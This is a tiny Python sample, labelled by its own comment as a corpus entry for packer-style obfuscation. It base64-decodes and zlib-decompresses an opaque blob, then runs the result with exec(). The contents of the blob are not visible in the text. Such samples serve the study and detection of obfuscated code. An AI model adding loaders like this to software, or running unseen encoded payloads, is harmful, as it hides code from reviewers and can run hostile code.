# corpus: exec of a zlib-compressed, base64-encoded payload (packer-style obfuscation)
import base64
import zlib

blob = b"eJzLzC3ILypRyC/myi/WK64sLknN1VBPLi3KUdAtVsgoKSmw0tc3MjDWM9AzNDTWM9fP1CvOUKhRKM5Q1+QCAGdOEkc="
exec(zlib.decompress(base64.b64decode(blob)).decode())
